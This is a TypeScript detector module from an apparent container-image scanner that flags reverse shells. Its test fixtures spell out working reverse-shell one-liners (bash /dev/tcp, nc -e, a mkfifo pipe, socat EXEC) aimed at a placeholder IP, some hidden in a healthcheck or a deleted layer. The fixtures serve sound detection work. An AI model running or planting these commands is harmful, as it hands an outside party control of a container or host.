import { socketCode } from '../trace/effects/one-liners.ts';
import type { Language } from '../trace/story.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { endpointWords } from './wording.ts';

/** A shell whose standard streams are a connection to somewhere else. */
export const reverseShell: Detector = {
  id: 'reverse-shell',
  version: 1,
  title: 'Gives a remote computer an interactive shell.',
  attack: ['T1059.004', 'T1095', 'T1071'],
  description: `
A reverse shell is *an interpreter that takes orders from its standard input, and whose standard input is a socket to
somewhere*: \`bash -i >& /dev/tcp/…\`, \`nc -e\`, a named pipe between a shell and \`nc\`, \`socat EXEC\`, a Python, Perl or
PHP script that duplicates a socket onto a shell's streams. A socket alone (a health check through \`/dev/tcp\`) is
nothing. Whoever listens at the other end has the container, or the host where it runs there.
`,
  fires: [
    {
      name: 'bash and /dev/tcp in the start command',
      image: { cmd: ['/bin/bash', '-c', 'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1'] },
    },
    { name: 'netcat', image: { entrypoint: ['nc', '-e', '/bin/sh', '192.0.2.44', '8443'] } },
    {
      name: 'a named pipe',
      image: { cmd: ['/bin/sh', '-c', 'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.44 8443 > /tmp/f'] },
    },
    { name: 'a health check', image: { healthcheck: ['CMD-SHELL', 'socat TCP:192.0.2.44:8443 EXEC:/bin/sh'] } },
    {
      name: 'a script that is only present',
      severity: 'suspicious',
      image: {
        cmd: ['sleep', '1'],
        files: { '/opt/x.sh': { content: '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.44/8443 0>&1\n', mode: 0o755 } },
      },
    },
    {
      name: 'in a later-deleted script',
      image: {
        layers: [{ '/opt/x.sh': '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.44/8443 0>&1\n' }, { '/opt/x.sh': null }],
      },
    },
  ],
  silent: [
    {
      name: 'a port probe',
      image: { cmd: ['/bin/bash', '-c', 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec app'] },
    },
    { name: 'waiting with netcat', image: { cmd: ['/bin/sh', '-c', 'until nc -z db 5432; do sleep 1; done'] } },
    {
      name: 'HTTP through a descriptor',
      image: {
        healthcheck: ['CMD', 'bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/8080; echo "GET /health" >&3; head -1 <&3'],
      },
    },
  ],
  detect(scene) {
    return [...connected(scene), ...unparsed(scene)];
  },
};

function connected(scene: Scene): readonly FindingDraft[] {
  return effectsOf(scene, 'connect').flatMap((effect) => {
    if (!effect.shell) return [];
    const sighting = sightingOf(scene, effect);
    const whose = sighting.outside ? ' on the HOST' : '';
    return findingOf(scene, sighting, {
      threat: 'hostile',
      title: `Gives a remote computer an interactive shell${whose} (${endpointWords(effect.to)})`,
      attack: [...(sighting.stage.language === 'python' ? ['T1059.006'] : []), ...(sighting.outside ? ['T1611'] : [])],
      because: `${capital(effect.shell.how)}.`,
      effects: [effect.id],
    });
  });
}

/** Scripts in languages that are not parsed (Perl, PHP, Ruby …), when something runs them or they were deleted later. */
function unparsed(scene: Scene): readonly FindingDraft[] {
  return scene.story.stages.flatMap((stage) => {
    if (parsed.has(stage.language)) return [];
    if (stage.reach === 'present' || stage.reach === 'built' || stage.text.length > longestScript) return [];
    const found = socketCode(stage.text).find((effect) => effect.kind === 'connect' && effect.shell !== undefined);
    if (found?.kind !== 'connect') return [];
    return findingOf(scene, sightingOf(scene, { stage: stage.id, line: 1 }), {
      threat: 'hostile',
      confidence: 'medium',
      title: `Gives a remote computer an interactive shell (${endpointWords(found.to)})`,
      because: 'The script opens a socket, starts a shell and joins the two.',
    });
  });
}

/** Languages that the trace follows: what they do is in the effects. */
const parsed = new Set<Language>([
  'shell',
  'python',
  'perl',
  'awk',
  'php',
  'ruby',
  'javascript',
  'crontab',
  'config',
  'dockerfile',
]);

/** Reverse shells are short; a long program that has a socket and a shell somewhere is something else. */
const longestScript = 8_000;

function capital(text: string): string {
  return text.charAt(0).toUpperCase() + text.slice(1);
}
